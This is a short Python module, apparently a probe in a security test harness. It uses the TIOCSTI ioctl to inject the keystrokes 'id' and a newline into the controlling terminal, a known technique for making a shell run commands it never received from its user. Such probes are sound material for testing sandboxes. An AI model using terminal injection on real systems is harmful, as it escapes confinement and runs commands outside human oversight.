import fcntl
import termios

from arms import attempt


@attempt
def deed():
    for c in "id\n":
        fcntl.ioctl(0, termios.TIOCSTI, c.encode())
    return True
